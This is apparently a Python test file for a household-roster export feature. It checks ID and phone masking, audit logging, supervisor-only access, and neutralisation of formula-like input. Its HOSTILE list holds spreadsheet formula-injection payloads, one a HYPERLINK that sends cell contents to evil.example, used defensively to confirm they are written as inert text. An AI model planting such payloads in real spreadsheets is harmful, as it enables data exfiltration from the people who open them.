"""Export: masked by the one rule, audited, supervisor only; formula-like text comes back inert."""
from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.domain.masking import mask_id_number, mask_phone
from app.security.roles import PermissionDenied
from app.services.roster import import_roster
from app.services.roster_export import export_roster
from app.store.models import AuditEntry, Household
from tests.roster.roster_helpers import TODAY, fill_template, setup_store, unlock, unsigned_households

BASIC = {"basic", "consent", "members", "collection"}
HOSTILE = ['=HYPERLINK("//e.vil","点")', '+HYPERLINK("http://evil.example/?x="&A1,"点我")', "-2+3", "@cmd",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def stored(data_dir, tmp_path):
    """A store with three households imported by the loan officer, one named like a formula."""
    villages = setup_store(data_dir)
    documents = unsigned_households(villages, 3)
    documents[0] = dict(documents[0], head_name=HOSTILE[0], address=HOSTILE[1])
    path = fill_template(tmp_path / "in.xlsx", documents, sections=BASIC)
    loan = unlock(data_dir, "loan")
    preview, summary = import_roster(loan, path, today=TODAY)
    loan.close()
    assert summary.stored, [p.line() for p in preview.errors]
    return documents


def test_a_supervisor_export_masks_id_numbers_and_phones_by_the_one_rule(data_dir, tmp_path, stored):
    out = tmp_path / "out.xlsx"
    ws = unlock(data_dir, "super")
    village = stored[1]["village_code"]
    assert export_roster(ws, out) == 3
    with ws.db.session() as session:
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).one()
    ws.close()
    assert entry.details == {"count": 3, "masked": True, "format": "xlsx"}
    sheet = load_workbook(out)["农户"]
    header = [str(c.value).splitlines()[-1] for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
    by_address = {r["address"]: r for r in rows}
    for document in stored:
        row = by_address[document["address"]]
        assert row["head_id_number"] == mask_id_number(document["head_id_number"])
        assert row["head_phone"] == mask_phone(document["head_phone"])
    members = load_workbook(out)["家庭成员"]
    numbers = [row[2].value for row in members.iter_rows(min_row=2)]
    assert numbers and all("*" in n for n in numbers)
    assert village  # the fixture stored real villages


def test_formula_like_names_are_written_as_inert_text_and_come_back_unchanged(data_dir, tmp_path, stored):
    out = tmp_path / "full.xlsx"
    ws = unlock(data_dir, "super")
    export_roster(ws, out, full_ids=True)
    ws.close()
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    sheet = load_workbook(out)["农户"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if c.value in HOSTILE}
    assert set(cells) == set(HOSTILE[:2])
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
    loan = unlock(data_dir, "loan")
    preview, summary = import_roster(loan, out, today=TODAY)
    with loan.db.session() as session:
        names = set(session.scalars(select(Household.head_name)))
    loan.close()
    assert summary.updated == 3 and HOSTILE[0] in names


def test_every_formula_start_is_neutralised(tmp_path):
    from app.roster.template import write_roster
    from app.survey.definition import load_form

    form = load_form("household")
    documents = [{"record_type": "household", "head_name": text, "head_id_number": f"K{i}"}
                 for i, text in enumerate(HOSTILE)]
    write_roster(form, tmp_path / "x.xlsx", documents)
    sheet = load_workbook(tmp_path / "x.xlsx")["农户"]
    names = [row[3] for row in sheet.iter_rows(min_row=2)]
    # XML reads a bare CR as a line feed; either way the cell is text.
    assert [c.value for c in names] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)


@pytest.mark.parametrize("user", ["loan", "town", "viewer"])
def test_only_a_supervisor_may_export_and_a_refusal_is_audited(data_dir, tmp_path, user):
    setup_store(data_dir)
    ws = unlock(data_dir, user)
    with pytest.raises(PermissionDenied):
        export_roster(ws, tmp_path / "x.xlsx")
    with ws.db.session() as session:
        denied = session.scalars(select(AuditEntry.details).where(
            AuditEntry.action == "permission_denied")).all()
    ws.close()
    assert {"permission": "export", "role": ws.actor.role} in denied
    assert not (tmp_path / "x.xlsx").exists()
